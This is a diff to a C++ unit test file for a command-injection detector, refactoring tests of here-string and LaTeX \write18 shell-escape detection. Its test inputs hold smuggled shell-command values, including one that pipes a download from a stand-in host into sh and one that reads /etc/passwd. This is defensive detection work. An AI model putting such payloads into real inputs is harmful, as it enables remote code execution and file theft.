@@ -1,9 +1,11 @@
 #include <string>
+#include <string_view>
 #include <utility>
 #include <vector>
 
 #include "gtest/gtest.h"
 #include "runtime/detect/detector.h"
+#include "tests/unit/detect/detect_test_support.h"
 #include "tests/unit/detect/detector_cases.h"
 
 namespace fnguard::detect {
@@ -11,6 +13,7 @@ namespace {
 
 using testing::Case;
 using testing::Detects;
+using testing::RuleOf;
 
 std::string Repeat(const std::string& s, size_t n) {
   std::string r;
@@ -214,37 +217,24 @@ TEST(CmdiTest, NodeAndGroovyCommandExecution) {
 // A here-string ("cmd<<<word") hands its word to the command like any
 // other redirection; "<<<" in prose or a heart ("I <<<3 you") is no target.
 TEST(CmdiTest, HereStrings) {
-  for (const std::string v : {";`cat<<<sh -c whoami`", ";`cat<<<'ifconfig'`",
-                              "x;`cat<<< \"id\"`", "cat<<<$(id)", "| sh<<<'id'"}) {
-    Case c;
-    c.value = v;
-    Match m;
-    EXPECT_TRUE(Detects(CmdiDetector(), c, &m)) << v;
+  for (std::string_view v : {";`cat<<<sh -c whoami`", ";`cat<<<'ifconfig'`",
+                             "x;`cat<<< \"id\"`", "cat<<<$(id)", "| sh<<<'id'"}) {
+    EXPECT_NE(RuleOf(CmdiDetector(), v), "") << v;
   }
-  for (const std::string v : {"I <<<3 you", "a <<< b", "x<<<<y", "see <<< and >>> markers"}) {
-    Case c;
-    c.value = v;
-    Match m;
-    EXPECT_FALSE(Detects(CmdiDetector(), c, &m)) << v << " -> " << m.rule_id;
+  for (std::string_view v : {"I <<<3 you", "a <<< b", "x<<<<y", "see <<< and >>> markers"}) {
+    EXPECT_EQ(RuleOf(CmdiDetector(), v), "") << v;
   }
 }
 
 // LaTeX's \write18 runs its argument in a shell when the compiler allows it.
 TEST(CmdiTest, LatexShellEscape) {
-  for (const std::string v : {"\\immediate\\write18{id}", "\\write18 {curl x.example|sh}",
-                              "$x$ \\write18{cat /etc/passwd > out.tex}"}) {
-    Case c;
-    c.value = v;
-    Match m;
-    ASSERT_TRUE(Detects(CmdiDetector(), c, &m)) << v;
-    EXPECT_EQ(m.rule_id, "cmdi.latex_shell_escape") << v;
+  for (std::string_view v : {"\\immediate\\write18{id}", "\\write18 {curl x.example|sh}",
+                             "$x$ \\write18{cat /etc/passwd > out.tex}"}) {
+    EXPECT_EQ(RuleOf(CmdiDetector(), v), "cmdi.latex_shell_escape") << v;
   }
-  for (const std::string v : {"\\write18{}", "write18{id}", "\\writer{x}",
-                              "use \\write to print"}) {
-    Case c;
-    c.value = v;
-    Match m;
-    EXPECT_FALSE(Detects(CmdiDetector(), c, &m)) << v << " -> " << m.rule_id;
+  for (std::string_view v : {"\\write18{}", "write18{id}", "\\writer{x}",
+                             "use \\write to print"}) {
+    EXPECT_EQ(RuleOf(CmdiDetector(), v), "") << v;
   }
 }
 
